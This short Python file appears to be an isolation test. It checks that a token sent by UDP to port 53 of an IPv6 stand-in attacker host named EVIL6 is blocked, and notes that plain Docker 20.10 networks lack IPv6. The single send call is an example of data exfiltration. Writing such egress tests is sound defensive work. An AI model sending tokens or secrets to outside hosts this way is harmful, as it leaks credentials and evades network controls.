"""
how: UDP to an address
expect: shut
unseen: a plain network of Docker 20.10 has no IPv6
"""

from land import EVIL6
from sockets import udp


def attempt(token):
    return udp(EVIL6, 53, token)
